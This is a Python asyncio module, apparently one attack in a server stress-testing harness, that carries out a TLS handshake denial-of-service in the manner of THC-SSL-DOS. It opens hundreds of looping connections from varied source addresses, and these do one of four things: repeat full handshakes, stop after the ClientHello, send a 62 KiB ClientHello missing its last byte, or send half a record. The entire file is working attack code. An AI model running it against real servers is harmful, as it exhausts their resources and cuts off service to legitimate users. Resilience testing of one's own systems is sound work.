"""TLS handshakes, whole and unfinished (CWE-400; the classic is THC-SSL-DOS): the server signs
for every ClientHello, and keeps what has arrived of records and messages that are not complete.

Four kinds: whole handshakes one after the other, handshakes that end after the ClientHello, a
ClientHello of 62 KiB whose last byte never comes, and sessions that send half a record.
"""

import asyncio
import ssl
from collections.abc import Awaitable, Callable

from support.connection import TLS, Attack

WHOLE, HALF, PARTIAL_HELLO, PARTIAL_RECORD = 32, 200, 1000, 500
RECORD = 16 * 1024
HANDSHAKE, APPLICATION_DATA = 22, 23
CLIENT_HELLO = 1

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def attack(attack: Attack) -> None:
    await asyncio.gather(
        *keep(attack, WHOLE, shake_hands),
        *keep(attack, HALF, greet),
        *keep(attack, PARTIAL_HELLO, greet_at_length),
        *keep(attack, PARTIAL_RECORD, send_half_a_record),
    )


def keep(attack: Attack, count: int,
         behave: Callable[[Streams], Awaitable[None]]) -> list[Awaitable[None]]:
    return [keep_one(attack, behave, number) for number in range(count)]


async def keep_one(attack: Attack, behave: Callable[[Streams], Awaitable[None]],
                   number: int) -> None:
    kind, target = behave.__name__.replace("_", " "), attack.target
    while True:
        try:
            streams = await asyncio.wait_for(
                asyncio.open_connection(target.host, target.port,
                                        local_addr=target.source(number)), 5)
        except (OSError, TimeoutError):
            attack.tally["not connected"] += 1
            await asyncio.sleep(0.1)
            continue
        try:
            attack.tally[kind] += 1
            await behave(streams)
        except OSError:
            attack.tally["ended by the server"] += 1
        finally:
            streams[1].transport.abort()
        await asyncio.sleep(0)


async def shake_hands(streams: Streams) -> None:
    reader, writer = streams
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = TLS.wrap_bio(incoming, outgoing)
    while True:
        try:
            session.do_handshake()
            writer.write(outgoing.read())
            return
        except ssl.SSLWantReadError:
            writer.write(outgoing.read())
        received = await reader.read(RECORD)
        if not received:
            raise ConnectionError("ended in the handshake")
        incoming.write(received)


async def greet(streams: Streams) -> None:
    outgoing = ssl.MemoryBIO()
    try:
        TLS.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        streams[1].write(outgoing.read())
    await wait_for_the_end(streams)


async def greet_at_length(streams: Streams) -> None:
    # A handshake message may have at most 64 KiB, with the heads of its records.
    length = 62 * 1024
    message = bytes([CLIENT_HELLO]) + length.to_bytes(3, "big") + b"\x03\x03" + bytes(length - 2)
    for at in range(0, len(message) - 1, RECORD):
        streams[1].write(record(HANDSHAKE, message[at : min(at + RECORD, len(message) - 1)]))
    await wait_for_the_end(streams)


async def send_half_a_record(streams: Streams) -> None:
    await shake_hands(streams)
    streams[1].write(record(APPLICATION_DATA, bytes(RECORD))[: RECORD - 1])
    await wait_for_the_end(streams)


def record(type: int, payload: bytes) -> bytes:
    return bytes([type]) + b"\x03\x03" + len(payload).to_bytes(2, "big") + payload


async def wait_for_the_end(streams: Streams) -> None:
    while await streams[0].read(RECORD):
        pass
